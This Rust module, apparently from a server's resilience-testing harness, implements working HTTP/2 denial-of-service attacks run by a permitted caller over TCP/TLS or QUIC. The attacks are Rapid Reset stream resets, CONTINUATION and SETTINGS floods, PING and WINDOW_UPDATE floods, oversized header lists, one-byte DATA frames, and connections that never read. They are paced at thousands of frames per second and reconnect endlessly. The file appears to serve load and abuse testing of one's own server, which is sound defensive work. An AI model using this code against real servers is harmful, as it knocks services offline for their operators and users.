//! Abuse of HTTP/2 by a caller that the policy permits to call: the more expensive case.
//!
//! Each attacker has one connection to the TCP port, or one lane of a connection over QUIC, and takes another when the server ends it.

use std::{
    future::pending,
    time::{Duration, Instant},
};

use tokio::{
    io::{AsyncReadExt as _, AsyncWriteExt as _, ReadHalf, WriteHalf, split},
    task::JoinSet,
    time::{interval, sleep},
};

use super::{
    Target, frames,
    wire::{self, Bytes, Over, Who, lane, write},
};
use crate::Error;

/// Batches are written so often.
const BATCH: Duration = Duration::from_millis(10);

type Writer = WriteHalf<Box<dyn Bytes>>;

/// A connection on which HTTP/2 has not begun, as an attack has it.
struct Line {
    target: Target,
    writer: Writer,
}

impl Line {
    async fn say(&mut self, frames: u64, bytes: &[u8]) -> Result<(), Error> {
        write(&self.target, &mut self.writer, frames, bytes).await?;
        Ok(self.writer.flush().await?)
    }
}

/// Attacks over each transport again and again. What the server says is read and ignored, unless `reads` is false.
async fn each<F>(
    target: Target,
    lines: usize,
    reads: bool,
    attack: impl Fn(Line) -> F + Clone + Send + Sync + 'static,
) -> Result<(), Error>
where
    F: Future<Output = Result<(), Error>> + Send,
{
    let mut running = JoinSet::new();
    for over in target.over.clone() {
        for _ in 0..lines {
            let (target, attack) = (target.clone(), attack.clone());
            running.spawn(async move {
                loop {
                    let _ = once(&target, over, reads, &attack).await;
                    target.spent.ended();
                    sleep(Duration::from_millis(20)).await;
                }
            });
        }
    }
    running.join_all().await;
    Ok(())
}

async fn once<F>(
    target: &Target,
    over: Over,
    reads: bool,
    attack: &impl Fn(Line) -> F,
) -> Result<(), Error>
where
    F: Future<Output = Result<(), Error>>,
{
    let from = wire::source(7);
    let key = target.key(Who::Insider);
    let (connection, endpoint);
    let stream: Box<dyn Bytes> = match over {
        Over::Quic => {
            endpoint = target.endpoint(key, from).await?;
            connection = target.quic(&endpoint).await?;
            Box::new(lane(&connection).await?)
        }
        Over::Tcp => Box::new(target.tls(&key, from).await?),
    };
    let (reader, writer) = split(stream);
    let line = Line {
        target: target.clone(),
        writer,
    };
    tokio::select! {
        ended = attack(line) => ended,
        () = heard(reader, reads) => Err("the server ended the connection".into()),
    }
}

/// Reads to the end, or nothing.
async fn heard(mut reader: ReadHalf<Box<dyn Bytes>>, reads: bool) {
    if !reads {
        return pending().await;
    }
    let mut buffer = vec![0; 1 << 16];
    while matches!(reader.read(&mut buffer).await, Ok(1..)) {}
}

/// Writes batches at a pace: `per_second` frames, of which `make` makes the nth.
async fn paced(
    line: &mut Line,
    per_second: u32,
    mut make: impl FnMut(u32) -> Vec<u8>,
) -> Result<(), Error> {
    let began = Instant::now();
    let mut due = interval(BATCH);
    let mut made = 0;
    loop {
        due.tick().await;
        let wanted = (began.elapsed().as_secs_f64() * f64::from(per_second)) as u32;
        // After a wait for the server's window it does not make up for all of it.
        made = made.max(wanted.saturating_sub(per_second / 10));
        let batch: Vec<u8> = (made..wanted).flat_map(&mut make).collect();
        line.say(u64::from(wanted - made), &batch).await?;
        made = wanted;
    }
}

pub(super) async fn rapid_reset(target: Target) -> Result<(), Error> {
    each(target, 1, true, |mut line| async move {
        line.say(1, frames::PREFACE).await?;
        let mut stream = 1;
        paced(&mut line, 10_000, |_| {
            let frames = [
                frames::request(stream, frames::UNARY, false),
                frames::reset(stream),
            ];
            stream += 2;
            frames.concat()
        })
        .await
    })
    .await
}

pub(super) async fn continuation(target: Target) -> Result<(), Error> {
    each(target, 1, true, |mut line| async move {
        line.say(1, frames::PREFACE).await?;
        let start = frames::frame(frames::HEADERS, 0, 1, &frames::request_block(frames::UNARY));
        line.say(1, &start).await?;
        let mut block = Vec::new();
        frames::field(&mut block, "x-more", &[b'a'; 1000]);
        let more = frames::frame(frames::CONTINUATION, 0, 1, &block);
        paced(&mut line, 10_000, |_| more.clone()).await
    })
    .await
}

pub(super) async fn settings(target: Target) -> Result<(), Error> {
    each(target, 1, true, |mut line| async move {
        line.say(1, frames::PREFACE).await?;
        // SETTINGS_INITIAL_WINDOW_SIZE
        paced(&mut line, 20_000, |number| {
            frames::setting(4, 1000 + number % 1000)
        })
        .await
    })
    .await
}

pub(super) async fn pings(target: Target) -> Result<(), Error> {
    each(target, 1, true, |mut line| async move {
        line.say(1, frames::PREFACE).await?;
        paced(&mut line, 20_000, |number| {
            frames::frame(frames::PING, 0, 0, &u64::from(number).to_be_bytes())
        })
        .await
    })
    .await
}

pub(super) async fn header_list(target: Target) -> Result<(), Error> {
    each(target, 1, true, |mut line| async move {
        line.say(1, frames::PREFACE).await?;
        let mut part = Vec::new();
        frames::field(&mut part, "x-long", &[b'a'; 16_000]);
        let mut stream = 1;
        loop {
            line.say(
                1,
                &frames::frame(
                    frames::HEADERS,
                    0,
                    stream,
                    &frames::request_block(frames::UNARY),
                ),
            )
            .await?;
            for number in 0..64 {
                let flags = if number == 63 { frames::END_HEADERS } else { 0 };
                line.say(
                    1,
                    &frames::frame(frames::CONTINUATION, flags, stream, &part),
                )
                .await?;
            }
            stream += 2;
            sleep(Duration::from_millis(50)).await;
        }
    })
    .await
}

pub(super) async fn tiny_data(target: Target) -> Result<(), Error> {
    each(target, 1, true, |mut line| async move {
        line.say(1, frames::PREFACE).await?;
        line.say(1, &frames::request(1, frames::CLIENT_STREAM, false))
            .await?;
        // A stream of many small messages, each byte of it in a frame.
        let message = frames::message(b"1234567890");
        paced(&mut line, 10_000, |number| {
            let byte = message[number as usize % message.len()];
            frames::frame(frames::DATA, 0, 1, &[byte])
        })
        .await
    })
    .await
}

pub(super) async fn window_updates(target: Target) -> Result<(), Error> {
    each(target, 1, true, |mut line| async move {
        line.say(2, &[frames::MAGIC, &frames::setting(4, 0)].concat())
            .await?;
        line.say(2, &frames::wants(1, 10_000, 65_536)).await?;
        paced(&mut line, 10_000, |_| frames::window_update(1, 1)).await
    })
    .await
}

pub(super) async fn never_reads(target: Target) -> Result<(), Error> {
    // 200 calls on each of five connections or lanes.
    each(target, 5, false, |mut line| async move {
        let most = i32::MAX as u32;
        let start = [
            frames::MAGIC,
            &frames::setting(4, most),
            &frames::window_update(0, most - 65_535),
        ];
        line.say(3, &start.concat()).await?;
        for number in 0..200 {
            line.say(2, &frames::wants(1 + 2 * number, 100, 65_536))
                .await?;
        }
        loop {
            // Whether the server has ended it shows when something is written.
            sleep(Duration::from_secs(1)).await;
            line.say(1, &frames::frame(frames::PING, 0, 0, &[0; 8]))
                .await?;
        }
    })
    .await
}
